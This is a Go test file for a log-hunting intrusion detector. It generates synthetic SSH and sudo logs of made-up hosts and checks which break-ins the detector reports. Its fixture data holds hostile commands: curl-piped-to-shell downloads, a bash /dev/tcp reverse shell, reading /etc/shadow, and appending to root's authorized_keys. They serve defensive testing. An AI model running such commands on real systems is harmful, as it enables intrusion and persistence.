package hunt_test

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tuxtrail/tuxtrail/hunt"
)

// town is an auth.log and a syslog of a made-up host with the days of its
// people, without audit.
type town struct {
	*world
	uids map[string]int
}

func newTown() *town {
	w := newWorld()
	w.at = time.Date(2026, 11, 2, 0, 0, 0, 0, time.UTC)
	return &town{w, map[string]int{}}
}

func (w *town) uid(user string) int {
	if _, ok := w.uids[user]; !ok {
		w.uids[user] = 1000 + len(w.uids)
	}
	return w.uids[user]
}

// visit is a logon with commands by sudo in it.
func (w *town) visit(user, addr, method, key string, commands ...string) {
	s := w.enter(user, addr, method, key)
	for _, c := range commands {
		w.sudoLine(user, c)
	}
	w.leave(s)
}

func (w *town) enter(user, addr, method, key string) stay {
	w.pid += 3
	s := stay{pid: w.pid, uid: w.uid(user), user: user}
	if key != "" {
		key = ": ED25519 SHA256:" + key
	}
	w.authf("sshd[%d]: Accepted %s for %s from %s port %d ssh2%s", s.pid, method, user, addr, 30000+s.pid%30000, key)
	w.authf("sshd[%d]: pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)", s.pid, user, s.uid)
	w.wait(time.Second)
	return s
}

func (w *town) leave(s stay) {
	w.authf("sshd[%d]: pam_unix(sshd:session): session closed for user %s", s.pid, s.user)
	w.wait(time.Second)
}

func (w *town) sudoLine(user, command string) {
	w.authf("sudo:  %s : TTY=pts/0 ; PWD=/home/%s ; USER=root ; COMMAND=%s", user, user, command)
	w.wait(time.Second)
}

// miss is a wrong password.
func (w *town) miss(user, addr string, exists bool) {
	w.pid += 3
	invalid := ""
	if !exists {
		invalid = "invalid user "
		w.authf("sshd[%d]: Invalid user %s from %s port 4000", w.pid, user, addr)
	}
	w.authf("sshd[%d]: Failed password for %s%s from %s port 4000 ssh2", w.pid, invalid, user, addr)
	w.authf("sshd[%d]: Connection closed by %s %s port 4000 [preauth]", w.pid, user, addr)
	w.wait(2 * time.Second)
}

func (w *town) guess(addr string, users ...string) {
	for _, u := range users {
		w.miss(u, addr, w.uids[u] != 0)
	}
}

// daily is twenty days of a job that is there from the first day on.
func (w *town) daily(job string) {
	for range 20 {
		w.sysf("systemd[1]: Starting apt-daily.service - Daily apt download activities...")
		w.wait(5 * time.Hour)
		w.pid++
		w.sysf("CRON[%d]: (root) CMD (%s)", w.pid, job)
		w.wait(19 * time.Hour)
	}
	w.visit("ann", "192.0.2.9", "publickey", "k")
}

func (w *town) logs() fstest.MapFS {
	files := fstest.MapFS{"auth.log": {Data: []byte(w.auth.String())}}
	if w.syslog.Len() > 0 {
		files["syslog"] = &fstest.MapFile{Data: []byte(w.syslog.String())}
	}
	if w.audit.b.Len() > 0 {
		files["audit/audit.log"] = &fstest.MapFile{Data: []byte(w.audit.b.String())}
	}
	return files
}

// aboveLow returns the findings that call for a hunter.
func aboveLow(inv *hunt.Investigation) []hunt.Finding {
	var out []hunt.Finding
	for _, f := range inv.Findings {
		if f.Severity.Compare(hunt.SeverityLow) > 0 {
			out = append(out, f)
		}
	}
	return out
}

func addresses(f *hunt.Finding) string {
	var out []string
	for _, a := range f.Addresses {
		out = append(out, a.String())
	}
	return strings.Join(out, " ")
}

func wholeStory(f *hunt.Finding) string {
	var b strings.Builder
	fmt.Fprintln(&b, f.Severity, f.Title, f.Accounts, f.Addresses, f.Sessions[:min(len(f.Sessions), 20)])
	fmt.Fprintln(&b, f.Summary)
	fmt.Fprintln(&b, f.Paragraph)
	for i, s := range f.Steps {
		if i == 40 {
			fmt.Fprintln(&b, "   and", len(f.Steps)-i, "more steps")
			break
		}
		fmt.Fprintln(&b, "  ", s.Time.Format("01-02 15:04:05"), s.Severity, s.Session, s.Text)
	}
	return b.String()
}

const popular = "/usr/bin/sh -c 'curl -s http://10.0.0.5/tools.sh | sh'"

// TestThreeIntrusionsInADay: they share a popular command, a file that all hosts
// have, and the accounts of the day's people, and are three stories.
func TestThreeIntrusionsInADay(t *testing.T) {
	w := newTown()
	var people []string
	for i := range 24 {
		people = append(people, fmt.Sprintf("user%02d", i))
		w.uid(people[i])
	}
	ordinary := func(n int) {
		for i := range n {
			u := i * 7 % len(people)
			var commands []string
			switch i % 5 {
			case 0:
				commands = []string{"/usr/bin/apt-get update"}
			case 1:
				commands = []string{"/usr/bin/systemctl restart nginx", "/usr/bin/journalctl -u nginx"}
			case 2:
				commands = []string{popular}
			}
			if i%11 == 0 {
				w.miss(people[u], fmt.Sprintf("10.1.0.%d", u+1), true)
			}
			w.visit(people[u], fmt.Sprintf("10.1.0.%d", u+1), "publickey", "k"+people[u], commands...)
			if i%17 == 0 { // the weather
				w.guess(fmt.Sprintf("198.51.100.%d", i%200), "root", "admin", "test", "oracle", "pi")
			}
			w.wait(6 * time.Second)
		}
	}
	ordinary(1200)
	w.guess("203.0.113.10", "admin", "test", "oracle", "git", "user03", "user03")
	w.visit("user03", "203.0.113.10", "password", "", popular, "/usr/bin/sh -c 'curl -s http://198.51.100.250/a | sh'", "/usr/bin/tee -a /root/.ssh/authorized_keys")
	ordinary(1200)
	w.visit("user07", "203.0.113.20", "publickey", "kuser07", popular, "/usr/bin/tee -a /root/.ssh/authorized_keys", "/usr/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.21/443 0>&1'")
	ordinary(1200)
	w.guess("203.0.113.30", "root", "www", "ftp", "backup", "user11")
	s := w.enter("user11", "203.0.113.30", "password", "")
	w.sudoLine("user11", "/usr/sbin/useradd -m sysop")
	w.authf("useradd[77]: new user: name=sysop, UID=1990, GID=1990, home=/home/sysop, shell=/bin/bash, from=none")
	w.sudoLine("user11", "/usr/bin/tee -a /root/.ssh/authorized_keys")
	w.leave(s)
	w.visit("sysop", "203.0.113.31", "password", "")
	ordinary(1400)

	inv := investigate(t, open(t, w.logs()), hunt.Options{})
	found := aboveLow(inv)
	var all strings.Builder
	for i := range found {
		all.WriteString(wholeStory(&found[i]))
	}
	require.Len(t, found, 3, all.String())
	for i := range found {
		f := &found[i]
		assert.Equal(t, hunt.SeverityCritical, f.Severity, wholeStory(f))
		switch f.Accounts[0] {
		case "user03":
			assert.Equal(t, "10.0.0.5 198.51.100.250 203.0.113.10", addresses(f), wholeStory(f))
			assert.Len(t, f.Sessions, 1)
		case "user07":
			assert.Equal(t, "10.0.0.5 203.0.113.20 203.0.113.21", addresses(f), wholeStory(f))
			assert.Len(t, f.Sessions, 1)
		case "user11":
			assert.Equal(t, "203.0.113.30 203.0.113.31", addresses(f), wholeStory(f))
			assert.Equal(t, []string{"user11", "sysop"}, f.Accounts)
			assert.Len(t, f.Sessions, 2)
		default:
			t.Errorf("a story of nobody who broke in: %s", wholeStory(f))
		}
		readable(t, f)
	}
	for i := range inv.Findings[3:min(len(inv.Findings), 20)] {
		t.Log(inv.Findings[3+i].Title)
	}
	assert.Less(t, len(inv.Findings), 12, "the weather and the habits are told once each")
}

// readable holds a finding to what a person reads.
func readable(t *testing.T, f *hunt.Finding) {
	t.Helper()
	assert.LessOrEqual(t, strings.Count(f.Paragraph, ". ")+1, 7, f.Paragraph)
	assert.LessOrEqual(t, len(f.Paragraph), 1600, f.Paragraph)
	assert.LessOrEqual(t, len(f.Summary), 900, f.Summary)
	seen := map[string]bool{}
	for _, s := range f.Steps {
		k := s.Session + s.Text
		assert.False(t, seen[k], "told twice: %s", s.Text)
		seen[k] = true
		assert.False(t, !s.End.IsZero() && s.End.Before(s.Time), s.Text)
	}
}

// TestBastion: everybody comes from one address; one account is taken from
// outside, and the owner goes on working.
func TestBastion(t *testing.T) {
	w := newTown()
	const nat = "192.0.2.1"
	var people []string
	for i := range 10 {
		people = append(people, fmt.Sprintf("user%02d", i))
		w.uid(people[i])
	}
	work := func(n int) {
		for i := range n {
			u := people[i*3%10]
			if i%4 == 0 {
				w.miss(u, nat, true)
			}
			w.visit(u, nat, "publickey", "k"+u, "/usr/bin/apt-get update")
			w.wait(5 * time.Minute)
		}
	}
	work(60)
	for range 12 {
		w.miss("user04", "203.0.113.50", true)
	}
	w.visit("user04", "203.0.113.50", "password", "", "/usr/bin/sh -c 'curl -s http://203.0.113.51/a | sh'", "/usr/bin/tee -a /root/.ssh/authorized_keys")
	work(60)
	w.visit("user05", nat, "publickey", "kuser05", "/usr/bin/cat /etc/shadow") // bad, and behind the gateway
	work(20)
	inv := investigate(t, open(t, w.logs()), hunt.Options{})
	found := aboveLow(inv)
	require.Len(t, found, 2)
	assert.Equal(t, hunt.SeverityCritical, found[0].Severity)
	assert.Equal(t, "203.0.113.50 203.0.113.51", addresses(&found[0]), wholeStory(&found[0]))
	assert.Equal(t, []string{"user04"}, found[0].Accounts)
	assert.Len(t, found[0].Sessions, 1)
	assert.Len(t, found[1].Sessions, 1, wholeStory(&found[1]))
	assert.Equal(t, []string{"user05"}, found[1].Accounts)
	readable(t, &found[0])
}

// TestQuietWorlds: none of these calls for a hunter.
func TestQuietWorlds(t *testing.T) {
	for _, tc := range []struct {
		name string
		live func(*town)
		most hunt.Severity // of any finding
		few  int           // findings at most
	}{
		{"configuration management by cron, as old as the log", func(w *town) { w.daily("curl -fsSL https://config.example.net/apply.sh | sh") }, hunt.SeverityLow, 1},
		{"the same, from a bare address", func(w *town) { w.daily("curl -fsS http://10.0.0.5/apply.sh | sh") }, hunt.SeverityMedium, 1},
		{"a backup account with its key on two hosts", func(w *town) {
			for i := range 20 {
				addr := "10.0.0.4"
				if i%2 == 1 && i > 6 {
					addr = "10.0.1.4"
				}
				w.visit("backup", addr, "publickey", "b", "/usr/bin/rsync --server --sender -logDtpre.iLsfxC . /srv/")
				w.wait(24 * time.Hour)
			}
		}, hunt.SeverityLow, 2},
		{"a developer who mistypes", func(w *town) {
			for range 3 {
				w.visit("dev", "192.0.2.9", "password", "")
				w.wait(8 * time.Hour)
			}
			for range 4 {
				w.miss("dev", "192.0.2.9", true)
			}
			w.visit("dev", "192.0.2.9", "password", "", "/usr/bin/make install")
		}, hunt.SeverityLow, 1},
		{"monitoring that probes the port", func(w *town) {
			for i := range 600 {
				w.pid++
				w.authf("sshd[%d]: Connection closed by 10.0.0.9 port %d", w.pid, 20000+i)
				w.wait(time.Minute)
			}
			w.visit("ann", "192.0.2.9", "publickey", "k")
		}, hunt.SeverityInfo, 0},
		{"probing as scanners do", func(w *town) {
			for i := range 600 {
				w.pid++
				w.authf("sshd[%d]: error: kex_exchange_identification: Connection closed by remote host", w.pid)
				w.authf("sshd[%d]: Connection closed by 10.0.0.9 port %d", w.pid, 20000+i)
				w.wait(time.Minute)
			}
			w.visit("ann", "192.0.2.9", "publickey", "k")
		}, hunt.SeverityInfo, 0},
		{"upkeep by machines", func(w *town) {
			for day := range 5 {
				w.sysf("systemd[1]: Starting apt-daily-upgrade.service - Daily apt upgrade and clean activities...")
				upgrade := w.exec(1, system, "/usr/bin/python3.11", "/usr/bin/python3", "/usr/bin/unattended-upgrade")
				dpkg := w.exec(upgrade, system, "/usr/bin/dpkg", "/usr/bin/dpkg", "--status-fd", "11", "--configure", "--pending")
				w.exec(dpkg, system, "/usr/bin/dash", "/bin/sh", "/var/lib/dpkg/info/openssh-server.postinst", "configure", "1:9.2p1-2")
				w.exec(dpkg, system, "/usr/bin/systemctl", "systemctl", "restart", "ssh.service")
				w.pid++
				w.sysf("CRON[%d]: (root) CMD (test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew)", w.pid)
				w.sysf("systemd[1]: Starting logrotate.service - Rotate log files...")
				rotate := w.exec(1, system, "/usr/sbin/logrotate", "/usr/sbin/logrotate", "/etc/logrotate.conf")
				w.exec(rotate, system, "/usr/bin/dash", "sh", "-c", "\n\t\t/usr/lib/rsyslog/rsyslog-rotate\n", "logrotate_script", "/var/log/syslog")
				w.visit("ansible", "10.0.0.7", "publickey", "ans",
					fmt.Sprintf("/bin/sh -c 'echo BECOME-SUCCESS-qwertyuiopasdfghjklzxcv%d ; /usr/bin/python3 /home/ansible/.ansible/tmp/ansible-tmp-17950%d.1-1/AnsiballZ_apt.py'", day, day),
					fmt.Sprintf("/bin/sh -c 'echo BECOME-SUCCESS-qwertyuiopasdfghjklzxcx%d ; /usr/bin/python3 /home/ansible/.ansible/tmp/ansible-tmp-17950%d.2-1/AnsiballZ_user.py'", day, day))
				w.visit("ann", "192.0.2.9", "publickey", "k", "/usr/bin/docker ps", "/usr/bin/docker exec -it web bash", "/usr/bin/docker run --rm -v /srv:/srv alpine ls /srv", "/usr/bin/docker pull nginx:stable")
				w.wait(24 * time.Hour)
			}
		}, hunt.SeverityLow, 6},
		{"three accounts made in the morning", func(w *town) {
			s := w.enter("ann", "192.0.2.9", "publickey", "k")
			for i, name := range []string{"ben", "cat", "dan"} {
				w.sudoLine("ann", "/usr/sbin/useradd -m "+name)
				w.authf("useradd[%d]: new group: name=%s, GID=%d", 70+i, name, 1010+i)
				w.authf("useradd[%d]: new user: name=%s, UID=%d, GID=%d, home=/home/%s, shell=/bin/bash, from=/dev/pts/0", 70+i, name, 1010+i, 1010+i, name)
				w.sudoLine("ann", "/usr/bin/passwd "+name)
				w.authf("passwd[%d]: pam_unix(passwd:chauthtok): password changed for %s", 80+i, name)
			}
			w.sudoLine("ann", "/usr/sbin/usermod -aG sudo ben")
			w.authf("usermod[78]: add 'ben' to group 'sudo'")
			w.leave(s)
			w.wait(10 * time.Minute)
			w.visit("ben", "192.0.2.10", "password", "")
			w.visit("cat", "192.0.2.11", "password", "")
		}, hunt.SeverityLow, 4},
		{"a risky command that everybody runs", func(w *town) {
			for i := range 60 {
				u := fmt.Sprintf("user%d", i%6)
				w.visit(u, fmt.Sprintf("10.1.0.%d", i%6), "publickey", "k"+u, popular, "/usr/bin/cat /etc/shadow")
				w.wait(10 * time.Minute)
			}
		}, hunt.SeverityLow, 3},
		{"a risky command that one account runs every day", func(w *town) {
			for range 12 {
				w.visit("ann", "192.0.2.9", "publickey", "k", "/usr/bin/cat /etc/shadow")
				w.wait(24 * time.Hour)
			}
			w.visit("ben", "192.0.2.10", "publickey", "l")
		}, hunt.SeverityLow, 1},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := newTown()
			tc.live(w)
			inv := investigate(t, open(t, w.logs()), hunt.Options{})
			for i := range inv.Findings {
				f := &inv.Findings[i]
				assert.LessOrEqual(t, f.Severity.Compare(tc.most), 0, wholeStory(f))
				readable(t, f)
			}
			assert.LessOrEqual(t, len(inv.Findings), tc.few)
			if t.Failed() {
				for i := range inv.Findings {
					t.Log(wholeStory(&inv.Findings[i]))
				}
			}
		})
	}
}

// TestNewLaptop: the owner copies the key of a new laptop and goes home with it.
// That the list was written is told; a break-in it is not.
func TestNewLaptop(t *testing.T) {
	w := ordinary(4, nil)
	s := w.login("ann", 1000, "192.0.2.9", "password", "")
	w.run(s, 1000, "/usr/bin/dash", "sh", "-c", "exec sh -c 'cd ; umask 077 ; mkdir -p .ssh && { [ -z `tail -1c .ssh/authorized_keys 2>/dev/null` ] || echo >> .ssh/authorized_keys || exit 1; } && cat >> .ssh/authorized_keys || exit 1'")
	w.logout(s)
	w.wait(30 * time.Second)
	s = w.login("ann", 1000, "192.0.2.9", "publickey", "laptop")
	w.logout(s)
	w.wait(10 * time.Minute)
	s = w.login("ann", 1000, "198.51.100.4", "publickey", "laptop")
	w.run(s, 1000, "/usr/bin/ls", "ls")
	w.sudo(s, "/usr/bin/apt-get update")
	w.logout(s)
	inv := investigate(t, open(t, w.files()), hunt.Options{})
	for i := range inv.Findings {
		f := &inv.Findings[i]
		assert.LessOrEqual(t, f.Severity.Compare(hunt.SeverityLow), 0, wholeStory(f))
	}
}

// TestDenseLogIsReadable: people roam, everybody runs the same risky commands,
// and hostile addresses are in use by people too.
func TestDenseLogIsReadable(t *testing.T) {
	w := newTown()
	rng := rand.New(rand.NewPCG(7, 7))
	var people []string
	for i := range 8 {
		people = append(people, fmt.Sprintf("user%d", i))
		w.uid(people[i])
	}
	commands := []string{popular, "/usr/bin/cat /etc/shadow", "/usr/bin/tee -a /root/.ssh/authorized_keys", "/usr/bin/apt update", "/usr/bin/ls -la /root"}
	for range 4000 {
		hostile := fmt.Sprintf("203.0.113.%d", rng.IntN(60))
		if rng.IntN(4) > 0 {
			w.guess(hostile, []string{"root", "admin", "test", "pi", people[rng.IntN(8)]}[rng.IntN(5)])
			continue
		}
		u, from := people[rng.IntN(8)], fmt.Sprintf("10.0.%d.%d", rng.IntN(3), rng.IntN(40))
		if rng.IntN(10) == 0 {
			from = hostile
		}
		w.visit(u, from, "publickey", "same", commands[rng.IntN(5)], commands[rng.IntN(5)])
	}
	inv := investigate(t, open(t, w.logs()), hunt.Options{})
	require.NotEmpty(t, aboveLow(inv))
	for i := range inv.Findings {
		f := &inv.Findings[i]
		assert.LessOrEqual(t, f.Severity.Compare(hunt.SeverityHigh), 0, "what everybody does here is no deed: %s", f.Title)
		if f.Severity.Compare(hunt.SeverityLow) > 0 {
			assert.Less(t, len(f.Sessions), 30, wholeStory(f))
			readable(t, f)
		}
		assert.LessOrEqual(t, len(f.Summary), 900, f.Summary)
	}
	low := len(inv.Findings) - len(aboveLow(inv))
	for i := range inv.Findings[len(inv.Findings)-low:] {
		t.Log(inv.Findings[len(inv.Findings)-low+i].Title)
	}
	assert.LessOrEqual(t, low, 7, "the weather, the failures, the habits")
}

// TestTheWeatherIsOneFinding: what came to nothing is told once, with each source
// as a step.
func TestTheWeatherIsOneFinding(t *testing.T) {
	w := newTown()
	w.uid("root")
	for i := range 9 {
		for range 6 {
			w.guess(fmt.Sprintf("203.0.113.%d", i), "root", "admin")
		}
	}
	w.visit("ann", "192.0.2.9", "publickey", "k")
	inv := investigate(t, open(t, w.logs()), hunt.Options{})
	require.Len(t, inv.Findings, 1)
	f := &inv.Findings[0]
	assert.Equal(t, hunt.SeverityLow, f.Severity)
	assert.Equal(t, "Passwords were guessed from 9 sources; none of that is part of a break-in that these logs show", f.Title)
	assert.Len(t, f.Steps, 9)
	readable(t, f)
}

// TestManySourcesThatTryOnce: a botnet that tries each account from elsewhere is
// told though no source of it is anything by itself.
func TestManySourcesThatTryOnce(t *testing.T) {
	for _, n := range []int{40, 300} {
		w := newTown()
		for i := range n {
			w.guess(fmt.Sprintf("203.0.%d.%d", 100+i/250, i%250), fmt.Sprintf("user%d", i))
		}
		w.visit("ann", "192.0.2.9", "publickey", "k")
		inv := investigate(t, open(t, w.logs()), hunt.Options{})
		if n == 40 {
			assert.Empty(t, inv.Findings, "so many may be people who mistype")
			continue
		}
		require.Len(t, inv.Findings, 1)
		f := &inv.Findings[0]
		assert.Equal(t, hunt.SeverityLow, f.Severity)
		assert.Equal(t, "300 sources tried to log on, few times each, and never got in: 300 tries failed", f.Title)
		assert.NotEmpty(t, f.Refs)
		readable(t, f)
	}
}
